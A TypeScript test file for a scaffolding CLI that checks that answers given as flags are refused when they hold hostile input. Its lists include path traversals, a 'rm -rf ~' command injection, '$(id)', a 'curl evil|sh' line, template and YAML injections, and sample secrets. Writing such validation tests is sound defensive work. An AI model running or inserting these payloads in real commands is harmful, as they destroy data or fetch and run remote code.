import assert from "node:assert/strict";

import { CliError } from "../../../generator/cliError.js";
import type { Answers } from "../../../generator/scaffold/answers.js";
import { collectAnswers } from "../../../generator/scaffold/collectAnswers.js";
import { loadTemplate, templateNames } from "../../../generator/scaffold/loadTemplate.js";
import { TEMPLATES } from "./plannedTemplate.js";

/** What starts code, markup, a path or an option somewhere; no answer but a description may hold any of it. */
const HOSTILE = [
  "../evil",
  "..%2fevil",
  "/etc/passwd\0",
  "a/../../b",
  "C:\\x",
  ".git/hooks/pre-commit ",
  "-rf",
  "--upload-pack=x",
  "a\n  admin: true",
  'a"; process.exit(1); //',
  "`${process.env.X}`",
  "$(id)",
  "; rm -rf ~",
  "${{ secrets.AWS }}",
  "x\nRUN curl evil|sh",
  "</script>",
  '{{constructor.constructor "return process"}}',
  "!!js/function",
  "\u0430pi",
  "a\u202eb",
  "80 ",
  "x".repeat(50_000),
];

/** What a description may not hold either; the rest is text there, and is written as text. */
const IN_DESCRIPTION = HOSTILE.filter(
  (text) => /[\0\n<>`{}\\\u202e]/.test(text) || text.length > 200,
);

/** What hides a secret in a repository that is meant for commit. */
const SECRETS = [
  "AKIAIOSFODNN7EXAMPLE",
  "-----BEGIN RSA PRIVATE KEY-----",
  "https://me:pass@host/",
];

/** What each template asks: to read it takes longer than to refuse an answer. */
const QUESTIONS = new Map(
  templateNames(TEMPLATES).map((name) => [name, loadTemplate(TEMPLATES, name).questions]),
);

async function refusal(template: string, key: keyof Answers, value: string): Promise<string> {
  const questions = QUESTIONS.get(template) ?? [];
  const flags = { template, [key]: value };
  const refused = collectAnswers({ directory: "orders", flags, questions });
  const error: unknown = await refused.then(
    () => assert.fail(`${key} takes ${JSON.stringify(value.slice(0, 40))}`),
    (reason: unknown) => reason,
  );
  assert.ok(error instanceof CliError, String(error));
  return error.message;
}

for (const [template, questions] of QUESTIONS) {
  describe(`answers of ${template}`, () => {
    for (const key of questions) {
      it(`refuse all that is hostile as ${key}, in a line that says which flag`, async () => {
        for (const value of key === "description" ? [...IN_DESCRIPTION, ...SECRETS] : HOSTILE) {
          const message = await refusal(template, key, value);
          assert.match(message, /^'--[a-z-]+' must [\x20-\x7e…]{1,600}$/);
        }
      });
    }
  });
}
